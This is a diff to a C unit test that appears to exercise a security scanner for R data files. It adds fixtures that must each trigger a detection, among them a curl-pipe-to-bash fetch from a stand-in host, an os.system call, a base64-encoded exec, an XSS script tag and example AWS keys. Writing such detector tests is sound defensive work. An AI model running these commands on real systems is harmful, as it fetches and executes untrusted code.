@@ -285,6 +285,34 @@ static void every_item(void **st)
 	assert_int_equal(wrong, 0);
 }
 
+/* Strings are data, but some say more than data need to. A name with dots is only a name. */
+static void signs(void **st)
+{
+	(void)st;
+	static const struct {
+		const char *id, *text;
+	} t[] = {
+		{ "GH-RD-0201", "import os; os.system(\"id\")" },
+		{ "GH-RD-0202", "curl http://a.example/x.sh | bash" },
+		{ "GH-RD-0203", "<script>alert(1)</script>" },
+		{ "GH-RD-0204", "exec(__import__(\"base64\").b64decode(\"aW1wb3J0IG9z\"))" },
+		{ "GH-RD-0205", "http://a.example/payload.exe" },
+		{ "GH-RD-0206", "AKIAIOSFODNN7EXAMPLX aws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY" },
+		{ NULL, "sys.function" },
+		{ NULL, "An ordinary description." },
+	};
+	for (size_t i = 0; i < GH_ROWS(t); i++) {
+		struct rw r = { gh_buf(1 << 16) };
+		struct gh_events ev;
+		head(&r), str(&r, t[i].text);
+		gh_events_walk(&ev, &gh_fmt_rdata, gh_buf_view(&r.b), "x.rds", true);
+		if (ev.rc != GH_OK || gh_events_has(&ev, t[i].id != NULL ? t[i].id : "GH-RD-02") != (t[i].id != NULL))
+			fail_msg("\"%s\": %s", t[i].text, gh_buf_cstr(&ev.log));
+		gh_events_free(&ev);
+		gh_buf_free(&r.b);
+	}
+}
+
 static enum gh_match probe(const void *p, size_t n)
 {
 	struct gh_span s = { p, n };
@@ -388,7 +416,8 @@ static void lazy_load(void **st)
 
 int main(void)
 {
-	const struct CMUnitTest t[] = { cmocka_unit_test(every_item), cmocka_unit_test(what_it_is),
-					cmocka_unit_test(damage), cmocka_unit_test(lazy_load) };
+	const struct CMUnitTest t[] = { cmocka_unit_test(every_item), cmocka_unit_test(signs),
+					cmocka_unit_test(what_it_is), cmocka_unit_test(damage),
+					cmocka_unit_test(lazy_load) };
 	return cmocka_run_group_tests_name("rdata", t, NULL, NULL);
 }
